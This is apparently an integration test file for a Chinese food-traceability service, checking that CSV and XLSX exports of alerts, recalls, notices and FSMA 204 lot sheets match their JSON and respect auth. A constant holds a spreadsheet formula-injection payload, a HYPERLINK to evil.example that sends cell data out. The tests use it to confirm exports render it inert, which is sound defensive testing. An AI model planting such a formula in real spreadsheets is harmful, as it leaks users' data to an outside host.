"""Exports over HTTP (docs/exports.md): every list as CSV and XLSX with the same rows, scope and
auth as its JSON, and the FSMA 204 sortable spreadsheet of a lot.

The food chain of test_food_chain.py: capture and query services in-process on one ledger.
"""

from __future__ import annotations

import csv
import io
import json
from typing import Any
from urllib.parse import quote

from openpyxl import load_workbook

from suyuan.events import event_to_json
from tests.integration import test_food_chain
from tests.integration.test_food_chain import Services
from tests.integration.test_notices import farm_to_shop, recall

services = test_food_chain.services

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _get(services: Services, path: str, token: str | None, **params: Any) -> Any:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    return services.query.get(path, params=params, headers=headers)


def _csv(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _xlsx(response: Any) -> list[dict[str, Any]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX
    book = load_workbook(io.BytesIO(response.content))
    [sheet] = book.worksheets
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)  # no formula anywhere
    header, *rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(header, row, strict=True)) for row in rows]


def _missing_certificate(services: Services, lot: str) -> None:
    """The market takes in the farm's lot without a certificate: an alert against the market."""
    c = services.chain
    services.post_events(c.farm, c.ship(c.farm, c.market, [lot], "200"))
    services.post_events(c.market, c.receive(c.market, c.farm, [lot], "200"))


# --- lists ----------------------------------------------------------------------------------------


def test_alerts_export_holds_the_same_alerts_as_the_json(services: Services) -> None:
    c = services.chain
    _missing_certificate(services, c.lot("EX0101"))
    _missing_certificate(services, c.lot("EX0102"))
    body = services.alerts()

    rows = _csv(_get(services, "/v1/alerts", services.regulator, format="csv"))
    sheet = _xlsx(_get(services, "/v1/alerts", services.regulator, format="xlsx"))

    assert [r["alert_id"] for r in rows] == [a["alert_id"] for a in body["alerts"]]
    assert [r["alert_id"] for r in sheet] == [a["alert_id"] for a in body["alerts"]]
    first = body["alerts"][0]
    assert rows[0]["kind"] == "missing_certificate"
    assert rows[0]["organisation"] == c.market.uscc == sheet[0]["organisation"]
    assert rows[0]["codes"] == " ".join(first["codes"])
    assert rows[0]["summary"] == first["summary"] and rows[0]["status"] == "open"
    assert rows[0]["counterparty"] == c.farm.uscc


def test_alert_exports_follow_the_json_s_auth_and_scope(services: Services) -> None:
    c = services.chain
    _missing_certificate(services, c.lot("EX0201"))

    producer = _get(services, "/v1/alerts", services.tokens[c.farm.uscc], format="csv")
    anonymous = _get(services, "/v1/alerts", None, format="xlsx")
    outside = _get(services, "/v1/alerts", services.regulator, format="csv", region="330200")
    ningbo = _csv(_get(services, "/v1/alerts", services.ningbo, format="csv"))

    assert producer.status_code == 403 and anonymous.status_code == 401
    assert (outside.status_code, outside.json()["field"]) == (403, "region")
    assert ningbo == []  # Hangzhou's alert is not Ningbo's


def test_an_unknown_format_is_refused_naming_the_parameter(services: Services) -> None:
    refused = _get(services, "/v1/alerts", services.regulator, format="pdf")

    assert refused.status_code == 422
    assert (refused.json()["field"], refused.json()["value"]) == ("format", "pdf")
    assert "csv" in refused.json()["rule"]


def test_downloads_are_named_attachments(services: Services) -> None:
    response = _get(services, "/v1/metrics/coverage", services.admin, format="xlsx")

    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="coverage-')
    assert disposition.endswith('.xlsx"')


def test_coverage_export_has_a_row_per_organisation_and_the_total(services: Services) -> None:
    c = services.chain
    _missing_certificate(services, c.lot("EX0301"))
    body = _get(services, "/v1/metrics/coverage", services.regulator).json()

    rows = _csv(_get(services, "/v1/metrics/coverage", services.regulator, format="csv"))

    by_list: dict[str, list[dict[str, str]]] = {}
    for row in rows:
        by_list.setdefault(row["list"], []).append(row)
    assert [r["key"] for r in by_list["organisation"]] == [r["key"] for r in body["by_org"]]
    assert [r["key"] for r in by_list["region"]] == [r["key"] for r in body["by_region"]]
    [total] = by_list["total"]
    certificate = body["total"]["certificate_rate"]
    assert total["certificate_rate_numerator"] == str(certificate["numerator"])
    assert total["certificate_rate_denominator"] == str(certificate["denominator"]) != "0"
    market = next(r for r in by_list["organisation"] if r["key"] == c.market.uscc)
    assert market["certificate_rate_rate"] == "0.0"


def test_notices_export_is_the_holder_s_own_page(services: Services) -> None:
    c = services.chain
    lot = c.lot("EX0401")
    farm_to_shop(services, lot)
    recall_id = recall(services, lot)

    rows = _xlsx(_get(services, "/v1/notices", services.tokens[c.shop.uscc], format="xlsx"))
    regulator = _get(services, "/v1/notices", services.regulator, format="csv")

    [notice] = rows
    assert notice["notice_id"] == f"recall:{recall_id}"
    assert notice["quantities"] == "100 kg" and notice["acknowledged"] == "false"
    assert notice["title_zh"] == "召回中：该批次在召回范围内"
    assert c.market.uscc not in json.dumps(rows, ensure_ascii=False)
    assert regulator.status_code == 403


def test_recalls_export_holds_the_page_the_json_holds(services: Services) -> None:
    c = services.chain
    lot = c.lot("EX0601")
    farm_to_shop(services, lot)
    recall_id = recall(services, lot)
    hostile = services.query.post(
        "/v1/recalls",
        json={"root_codes": [lot], "reason": HOSTILE, "level": "LEVEL_1"},
        headers={"Authorization": f"Bearer {services.regulator}"},
    ).json()["recall_id"]
    body = _get(services, "/v1/recalls", services.regulator, limit=1).json()

    first = _get(services, "/v1/recalls", services.regulator, limit=1, format="csv")
    rows = _csv(first)
    sheet = _xlsx(_get(services, "/v1/recalls", services.regulator, format="xlsx"))

    assert [r["recall_id"] for r in rows] == [r["recall_id"] for r in body["recalls"]]
    assert first.headers["x-next-cursor"] == body["next_cursor"]
    by_id = {r["recall_id"]: r for r in sheet}
    assert by_id[hostile]["reason"] == "'" + HOSTILE  # shown as text, never run
    mine = by_id[recall_id]
    assert (mine["status"], mine["level"], mine["initiative"]) == ("open", "LEVEL_2", "ordered")
    assert mine["holders"] == 3 and mine["acknowledged"] == 0 and mine["overdue"] == 0
    assert mine["root_codes"] == lot and mine["acknowledge_by"]


def test_recall_export_is_its_holders_accounts(services: Services) -> None:
    c = services.chain
    lot = c.lot("EX0701")
    farm_to_shop(services, lot)
    recall_id = recall(services, lot)
    acknowledged = services.query.post(
        f"/v1/recalls/{recall_id}/acknowledgements",
        json={"unit": "kg", "on_hand": "0", "sold_on": "1.5", "returned": "98.5", "destroyed": "0"},
        headers={"Authorization": f"Bearer {services.tokens[c.shop.uscc]}"},
    )
    assert acknowledged.status_code == 201, acknowledged.text
    body = _get(services, f"/v1/recalls/{recall_id}", services.regulator).json()

    sheet = _xlsx(_get(services, f"/v1/recalls/{recall_id}", services.regulator, format="xlsx"))
    rows = _csv(_get(services, f"/v1/recalls/{recall_id}", services.regulator, format="csv"))

    assert [r["organisation"] for r in sheet] == [a["organisation"] for a in body["accounts"]]
    shop = next(r for r in sheet if r["organisation"] == c.shop.uscc)
    assert (shop["received"], shop["sold_on"], shop["returned"]) == ("100 kg", 1.5, 98.5)
    assert shop["remaining"] == 0 and shop["reconciled"] == "true"
    market = next(r for r in rows if r["organisation"] == c.market.uscc)
    assert (market["acknowledged"], market["remaining"], market["reconciled"]) == (
        "false",
        "",
        "false",
    )
    assert market["missing"] == "acknowledge with on_hand, sold_on, returned and destroyed"
    producer = _get(
        services, f"/v1/recalls/{recall_id}", services.tokens[c.shop.uscc], format="csv"
    )
    bad = _get(services, f"/v1/recalls/{recall_id}", services.regulator, format="ods")
    assert producer.status_code == 403  # a holder reads its notices, not the recall
    assert (bad.status_code, bad.json()["field"]) == (422, "format")


def test_rejections_export_lists_the_organisation_s_rejections(services: Services) -> None:
    c = services.chain
    bad = event_to_json(c.ship(c.farm, c.market, [c.lot("EX0501")], "5"))
    bad["payload"]["to_org"] = "not a uscc"
    headers = {"Authorization": f"Bearer {services.tokens[c.farm.uscc]}"}
    posted = services.ingest.post(
        "/v1/events",
        content=json.dumps([bad], ensure_ascii=False).encode(),
        headers={"Content-Type": "application/json", **headers},
    )
    assert posted.json()["results"][0]["status"] == "rejected"

    rows = _csv(services.ingest.get("/v1/rejections", params={"format": "csv"}, headers=headers))
    other = services.ingest.get(
        "/v1/rejections",
        params={"format": "csv"},
        headers={"Authorization": f"Bearer {services.tokens[c.shop.uscc]}"},
    )
    refused = services.ingest.get("/v1/rejections", params={"format": "ods"}, headers=headers)

    [row] = rows
    assert row["event_id"] == bad["event_id"] and row["field"] == "payload.to_org"
    assert _csv(other) == []
    assert (refused.status_code, refused.json()["field"]) == (422, "format")


# --- FSMA 204 ------------------------------------------------------------------------------------


def _fsma(services: Services, lot: str, token: str | None, fmt: str = "xlsx") -> Any:
    return _get(services, f"/v1/trace/{quote(lot, safe='()')}/fsma204", token, format=fmt)


def test_the_fsma_sheet_of_a_lot_has_its_critical_tracking_events(services: Services) -> None:
    c = services.chain
    lot = c.lot("EX0601")
    cert = farm_to_shop(services, lot)

    rows = _xlsx(_fsma(services, lot, services.regulator))

    assert [(r["Critical tracking event"], r["Location USCC"]) for r in rows] == [
        ("initial packing", c.farm.uscc),
        ("shipping", c.farm.uscc),
        ("receiving", c.market.uscc),
        ("shipping", c.market.uscc),
        ("receiving", c.shop.uscc),
    ]
    packing, farm_ships, market_receives, market_ships, _ = rows
    assert {r["Traceability lot code"] for r in rows} == {lot}
    assert {r["Product description"] for r in rows} == {"小青菜 (VEGETABLES)"}
    assert (packing["Reference document type"], packing["Reference document number"]) == (
        "合格证 (certificate of conformity)",
        cert,
    )
    assert (farm_ships["Quantity"], farm_ships["Unit of measure"]) == (500, "kg")  # a number
    assert farm_ships["Previous source / subsequent recipient USCC"] == c.market.uscc
    assert farm_ships["Reference document type"] == "电子运单 (electronic waybill)"
    assert market_receives["Previous source / subsequent recipient USCC"] == c.farm.uscc
    assert market_ships["Quantity"] == 100
    assert {r["Traceability lot code source USCC"] for r in rows} == {c.farm.uscc}
    assert all(r["Date"] and r["Location region code"] for r in rows)
    assert packing["Location name"] == "浙江省杭州市临安区太湖源镇白沙村"  # its 产地


def test_a_hostile_product_name_comes_out_of_the_fsma_sheet_inert(services: Services) -> None:
    c = services.chain
    lot = c.lot("EX0701")
    services.issued(c.farm, services.certificate_body([lot], product_name=HOSTILE))
    services.post_events(c.farm, c.ship(c.farm, c.market, [lot], "500"))

    sheet = _xlsx(_fsma(services, lot, services.regulator))
    rows = _csv(_fsma(services, lot, services.regulator, "csv"))

    assert sheet[0]["Product description"] == f"'{HOSTILE} (VEGETABLES)"
    assert rows[0]["Product description"] == f"'{HOSTILE} (VEGETABLES)"
    assert len(rows) == len(sheet) == 2


def test_the_fsma_sheet_is_for_regulators_and_the_lot_s_holders(services: Services) -> None:
    c = services.chain
    lot = c.lot("EX0801")
    farm_to_shop(services, lot)

    shop = _csv(_fsma(services, lot, services.tokens[c.shop.uscc], "csv"))
    stranger = _fsma(services, lot, services.tokens[c.plant.uscc])
    anonymous = _fsma(services, lot, None)
    as_json = _fsma(services, lot, services.regulator, "json")
    unknown = _fsma(services, c.lot("EX0899"), services.regulator)

    assert len(shop) == 5
    assert stranger.status_code == 403 and anonymous.status_code == 401
    assert (as_json.status_code, as_json.json()["field"]) == (422, "format")
    assert unknown.status_code == 404
    # the trace itself is still answered at its own path
    assert services.trace(lot, services.regulator)["code"] == lot
